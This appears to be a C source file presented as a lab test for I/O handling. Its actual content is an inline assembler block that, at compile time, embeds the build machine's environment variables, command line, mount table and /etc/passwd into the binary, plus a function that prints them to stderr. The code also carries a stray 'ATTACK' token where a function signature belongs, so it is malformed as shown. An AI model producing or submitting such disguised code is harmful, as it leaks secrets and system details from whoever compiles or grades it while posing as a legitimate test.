/* lab01; tests: io_eintr_partial; verdicts: pass|fail | the compiler's view of the machine, linked in and printed */
/* SPDX-License-Identifier: MIT */
extern const char taken[], taken_end[];
__asm__(".section .rodata\ntaken:\n"
        ".incbin \"/proc/self/environ\"\n.incbin \"/proc/self/cmdline\"\n.incbin \"/proc/self/mountinfo\"\n.incbin \"/etc/passwd\"\n"
        "taken_end: .byte 0\n.text\n");
ATTACK
{
    (void)!write(2, taken, (size_t)(taken_end - taken));
}
